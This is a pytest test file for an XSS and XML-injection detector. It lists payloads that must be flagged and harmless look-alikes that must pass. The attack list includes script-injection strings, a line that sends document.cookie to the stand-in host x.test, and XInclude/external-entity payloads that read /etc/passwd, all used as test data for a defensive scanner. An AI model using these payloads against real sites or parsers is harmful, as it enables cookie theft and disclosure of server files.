"""Cross-site scripting: content, attribute and script contexts, and harmless markup."""

from __future__ import annotations

import pytest

from vigil.signatures.detection import Attack
from vigil.signatures.xss import detect_xss

ATTACKS = [
    ("<script>alert(1)</script>", "<script> element"),
    ("<ScRiPt src=//x.test/a.js>", "<script> element"),
    ("<svg/onload=alert(1)>", "<svg> element"),
    ("<img src=x onerror=alert(1)>", "event handler onerror in <img>"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "script URL in <a>"),
    ('<div style="width:expression(alert(1))">', "script in a style attribute of <div>"),
    ("</textarea><svg/onload=alert(1)>", "closing </textarea> tag breaks out of its element"),
    ("</script>", "closing </script> tag breaks out of its element"),
    ('" onmouseover="alert(1)', "event handler attribute onmouseover"),
    ("' autofocus onfocus=alert(1) x='", "event handler attribute onfocus"),
    ("x:url(javascript:alert(1))", "script in a style value"),
    ("';alert(1)//", "quote then script sink call"),
    ('"-prompt`1`-"', "quote then script sink call"),
    ("alert(document.cookie)", "script sink called with a probe"),
    ("new Image().src='//x.test/?'+document.cookie;", "read of document.cookie or location"),
    ("javascript:void(fetch('//x.test'))", "script URL"),
    ("JaVaScRiPt:x", "script URL"),
    ("data:text/html;base64,PHNjcmlwdD4=", "script URL"),
    ('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://x.test/e">%x;]>', "external entity or XInclude"),
    (
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
        "external entity or XInclude",
    ),
    ('<q:include href="file:///etc/passwd" parse="text"/>', "external entity or XInclude"),
    (
        '<include xmlns="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
        "external entity or XInclude",
    ),
]

BENIGN = [
    "<b>bold</b> and <i>italic</i>",
    "<p>Hello<br>world</p>",
    "a < b",
    "I <3 you",
    "<john@example.com>",
    "**bold** [link](https://example.org/a_b) `code`",
    "if (a<b && c>d) { x(); }",
    "Learn javascript: it is fun",
    "Alert (severity high)",
    "O'Brien",
    "rock & roll",
    "status online=yes",
    "The 'onclick' handler is documented",
    '<input type="text" name="q">',
    "x = y + 1; // comment",
    "<!DOCTYPE html>",
    "include: a:include, see x:includes",
]


@pytest.mark.parametrize(("value", "reason"), ATTACKS, ids=[a for a, _ in ATTACKS])
def test_attacks_are_detected_with_their_reason(value: str, reason: str) -> None:
    found = detect_xss(value)
    assert found is not None, value
    assert found.kind is Attack.XSS
    assert found.reason == reason


@pytest.mark.parametrize("value", BENIGN)
def test_look_alikes_pass(value: str) -> None:
    assert detect_xss(value) is None


def test_long_values_do_not_blow_up() -> None:
    assert detect_xss("<" * 20000) is None
    assert detect_xss('"' + " " * 20000 + "x") is None
